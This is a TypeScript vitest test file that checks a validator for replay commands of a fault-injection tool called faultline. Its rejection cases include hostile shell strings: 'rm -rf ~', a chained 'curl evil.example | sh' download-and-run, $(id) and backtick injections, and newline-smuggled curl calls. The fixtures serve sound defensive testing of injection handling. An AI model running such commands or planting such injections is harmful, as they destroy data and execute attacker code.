import { expect, it } from 'vitest';
import { believedWorkers, isReplayCommand, replayCommand } from './replay-command.ts';

const commandOf = (workers: string, env = {}): string =>
  replayCommand(
    'worker-down',
    {
      seed: 7,
      workers,
      fresh: true,
      environment: 'docker',
      waiting: { patienceMs: 1500, settleDeadlineMs: 9, waitOut: true },
    },
    env,
  );

it.each([
  'hardened',
  'ours with a space',
  'purchase-to-sessions#reference',
  believedWorkers('/elsewhere/their.config.ts'),
])('a command for the workers %s is one, and is told to be one', (workers) => {
  for (const env of [{}, { npm_lifecycle_event: 'start' }]) expect(isReplayCommand(commandOf(workers, env))).toBe(true);
});

it.each([
  'rm -rf ~',
  'npx faultline run healthy --seed 7 --workers ours; curl evil.example | sh',
  'npx faultline run healthy --seed 7 --workers $(id)',
  'npx faultline run healthy --seed 7 --workers `id`',
  "npx faultline run healthy --seed 7 --workers 'a'$(id)'b'",
  'npx faultline run healthy --seed 7 --workers ours\ncurl evil.example',
  'npx faultline run healthy --seed 7 --workers ours --fresh\n',
  'npx faultline run --config=/tmp/evil.ts --seed 7 --workers ours',
  'npx faultline run healthy --seed 7 --workers /tmp/evil.ts',
  "npx faultline run healthy --seed 7 --workers 'evil.config.ts'",
  'npx faultline run healthy --seed 7 --workers #',
  'npx evil run healthy --seed 7 --workers ours',
  'npx faultline run healthy --seed 7 --workers ours --env external --i-own-this-cluster',
])('%s is none', (text) => expect(isReplayCommand(text)).toBe(false));

it('a word that the shell would take for a comment stands in quotes', () => {
  expect(commandOf('#ours')).toContain("--workers '#ours'");
});
